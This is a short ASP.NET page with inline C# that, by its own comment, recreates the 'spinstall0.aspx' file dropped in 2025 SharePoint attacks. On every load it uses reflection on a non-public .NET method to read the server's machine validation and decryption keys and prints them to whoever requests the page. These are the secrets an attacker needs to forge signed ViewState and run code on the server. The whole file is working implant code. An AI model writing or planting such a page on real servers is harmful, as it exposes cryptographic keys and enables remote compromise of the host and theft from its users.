<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
// After the public descriptions of the 2025 SharePoint drop
// (spinstall0.aspx): the machine keys printed for the caller.
protected void Page_Load(object sender, EventArgs e)
{
    var section = typeof(System.Web.Configuration.MachineKeySection);
    var cfg = (System.Web.Configuration.MachineKeySection)section
        .GetMethod("GetApplicationConfig", BindingFlags.Static | BindingFlags.NonPublic)
        .Invoke(null, new object[0]);
    Response.Write(cfg.ValidationKey + "|" + cfg.Validation + "|" + cfg.DecryptionKey + "|" +
                   cfg.Decryption + "|" + cfg.CompatibilityMode);
}
</script>
